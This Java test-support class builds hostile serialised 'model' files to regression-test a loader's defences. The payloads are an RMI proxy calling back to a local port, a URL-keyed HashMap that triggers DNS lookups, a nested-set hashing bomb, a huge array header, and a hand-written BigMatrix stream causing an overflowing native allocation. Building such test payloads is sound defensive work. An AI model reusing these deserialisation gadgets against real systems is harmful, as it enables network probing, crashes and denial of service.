package tiktokclaims.claims;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.URL;
import java.net.URLConnection;
import java.net.URLStreamHandler;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.AccessException;
import java.rmi.NotBoundException;
import java.rmi.Remote;
import java.rmi.registry.Registry;
import java.rmi.server.UnicastRemoteObject;
import java.security.MessageDigest;
import java.util.HashMap;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The hostile model payloads of issue 12, built from scratch: Java-serialised streams that, deserialised by the
 * version-1 loader, opened a connection, resolved a host name, spun the CPU, ran out of memory or crashed the JVM.
 * Used by the loader tests, and by {@code tests/cli/run.sh} through {@link #main}, which writes each payload as a
 * version-1 folder ({@code model.bin}) and as a version-2 folder ({@code model.txt}) with a matching envelope, so
 * that only the loader's own checks stand between the payload and the user.
 */
public final class HostileModels {

    private HostileModels() {
    }

    /** The payloads by name; {@code rmiPort} is where the RMI proxy would connect. */
    static Map<String, byte[]> payloads(int rmiPort) throws Exception {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("rmi-proxy", rmiProxy(rmiPort));
        m.put("url-hashmap", urlHashMap("tiktok-claims-dns-probe.invalid"));
        m.put("billion-laughs", nestedSets(100));
        m.put("huge-array", hugeArray());
        m.put("big-matrix", bigMatrix());
        return m;
    }

    /** A proxy whose handler is a {@code RemoteObjectInvocationHandler} with a live reference to 127.0.0.1:port. */
    static byte[] rmiProxy(int port) throws Exception {
        System.setProperty("java.rmi.server.hostname", "127.0.0.1");
        Registry impl = new NoRegistry();
        Remote stub = UnicastRemoteObject.exportObject(impl, 0);
        byte[] bytes;
        try {
            bytes = serialise(stub);
        } finally {
            UnicastRemoteObject.unexportObject(impl, true);
        }
        Matcher at = Pattern.compile("endpoint:\\[([^:\\]]+):(\\d+)").matcher(stub.toString());
        if (!at.find()) {
            throw new IllegalStateException("no endpoint in " + stub);
        }
        byte[] host = at.group(1).getBytes(StandardCharsets.UTF_8);
        byte[] hostAndPort = new byte[host.length + 6];
        hostAndPort[1] = (byte) host.length;
        System.arraycopy(host, 0, hostAndPort, 2, host.length);
        writeInt(hostAndPort, host.length + 2, Integer.parseInt(at.group(2)));
        int i = indexOf(bytes, hostAndPort);
        writeInt(bytes, i + host.length + 2, port);
        return bytes;
    }

    /**
     * A {@code HashMap} keyed by a {@code URL} whose cached hash code is -1, so that reading the map computes it,
     * which resolves the host.
     */
    static byte[] urlHashMap(String host) throws Exception {
        URLStreamHandler offline = new URLStreamHandler() {
            @Override
            protected URLConnection openConnection(URL u) {
                throw new UnsupportedOperationException();
            }

            @Override
            protected int hashCode(URL u) {
                return 0x5eed;
            }
        };
        HashMap<URL, String> map = new HashMap<>();
        map.put(new URL(null, "http://" + host + "/", offline), "x");
        byte[] bytes = serialise(map);
        // URL's serial fields start with hashCode then port (-1): make the cached hash -1.
        int i = indexOf(bytes, new byte[] {0, 0, 0x5e, (byte) 0xed, -1, -1, -1, -1});
        writeInt(bytes, i, -1);
        return bytes;
    }

    /** Sets nested {@code depth} deep, two to a level, each set in both: reading them hashes 2^depth times. */
    static byte[] nestedSets(int depth) throws IOException {
        Set<Object> root = new HashSet<>();
        Set<Object> s1 = root;
        Set<Object> s2 = new HashSet<>();
        for (int i = 0; i < depth; i++) {
            Set<Object> t1 = new HashSet<>();
            Set<Object> t2 = new HashSet<>();
            t1.add("foo");
            s1.add(t1);
            s1.add(t2);
            s2.add(t1);
            s2.add(t2);
            s1 = t1;
            s2 = t2;
        }
        return serialise(root);
    }

    /** An array header claiming 2^31 - 1 elements (and no elements). */
    static byte[] hugeArray() throws IOException {
        byte[] bytes = serialise(new long[0]);
        writeInt(bytes, bytes.length - 4, Integer.MAX_VALUE);
        return bytes;
    }

    /**
     * A Smile {@code BigMatrix} of 2^30 x 2^30: its reader allocates native memory of an overflowing size. Written
     * by hand (class name, serialVersionUID 3, fields m, n, diag, uplo, the superclass's two name arrays, then the
     * custom data), so that nothing native is touched to build it.
     */
    static byte[] bigMatrix() {
        String hex = "aced0005 7372001b" + utf("smile.math.matrix.BigMatrix").substring(4)
                + "0000000000000003 03 0004 4900016d 4900016e"
                + "4c0004" + hexOf("diag") + "740016" + hexOf("Lsmile/math/blas/Diag;")
                + "4c0004" + hexOf("uplo") + "740016" + hexOf("Lsmile/math/blas/UPLO;")
                + "78 720019" + hexOf("smile.math.matrix.IMatrix") + "c0a7e159cab12417 02 0002"
                + "5b0008" + hexOf("colNames") + "740013" + hexOf("[Ljava/lang/String;")
                + "5b0008" + hexOf("rowNames") + "71007e0004 78 70"
                + "70 70 40000000 40000000 70 70 77 08 0000000000000000 78";
        return HexFormat.of().parseHex(hex.replace(" ", ""));
    }

    private static String utf(String s) {
        return String.format("%04x", s.length()) + hexOf(s);
    }

    private static String hexOf(String s) {
        return HexFormat.of().formatHex(s.getBytes(StandardCharsets.UTF_8));
    }

    static byte[] serialise(Object o) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(o);
        }
        return bytes.toByteArray();
    }

    /** A version-1 folder: {@code model.bin} holding {@code payload} and an envelope whose checksum matches. */
    static Path version1(Path dir, byte[] payload) throws Exception {
        return folder(dir, 1, ModelFiles.LEGACY_PAYLOAD, payload);
    }

    /** A version-2 folder: {@code model.txt} holding {@code payload} and an envelope whose checksum matches. */
    static Path version2(Path dir, byte[] payload) throws Exception {
        return folder(dir, 2, ModelFiles.PAYLOAD, payload);
    }

    private static Path folder(Path dir, int version, String file, byte[] payload) throws Exception {
        Files.createDirectories(dir);
        Files.write(dir.resolve(file), payload);
        Files.writeString(dir.resolve(ModelFiles.MANIFEST), "format=tiktok-claims-model\nversion=" + version
                + "\nkind=LOGISTIC_REGRESSION\nbytes=" + payload.length + "\nsha256=" + sha256(payload) + "\n");
        return dir;
    }

    static String sha256(byte[] b) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(b));
    }

    private static int indexOf(byte[] in, byte[] what) {
        outer:
        for (int i = 0; i + what.length <= in.length; i++) {
            for (int j = 0; j < what.length; j++) {
                if (in[i + j] != what[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("pattern not found in the serialised stream");
    }

    private static void writeInt(byte[] b, int at, int v) {
        b[at] = (byte) (v >>> 24);
        b[at + 1] = (byte) (v >>> 16);
        b[at + 2] = (byte) (v >>> 8);
        b[at + 3] = (byte) v;
    }

    /** A registry that holds nothing: only its remote interface (a JDK one) matters for the stub. */
    private static final class NoRegistry implements Registry {
        @Override
        public Remote lookup(String name) throws NotBoundException {
            throw new NotBoundException(name);
        }

        @Override
        public void bind(String name, Remote obj) throws AccessException {
            throw new AccessException("read-only");
        }

        @Override
        public void unbind(String name) throws AccessException {
            throw new AccessException("read-only");
        }

        @Override
        public void rebind(String name, Remote obj) throws AccessException {
            throw new AccessException("read-only");
        }

        @Override
        public String[] list() {
            return new String[0];
        }
    }

    /**
     * {@code HostileModels DIR PORT}: writes DIR/v1-NAME and DIR/v2-NAME for every payload (the RMI proxy aimed at
     * 127.0.0.1:PORT).
     */
    public static void main(String[] args) throws Exception {
        Path dir = Path.of(args[0]);
        for (Map.Entry<String, byte[]> e : payloads(Integer.parseInt(args[1])).entrySet()) {
            version1(dir.resolve("v1-" + e.getKey()), e.getValue());
            version2(dir.resolve("v2-" + e.getKey()), e.getValue());
        }
        System.exit(0);
    }
}
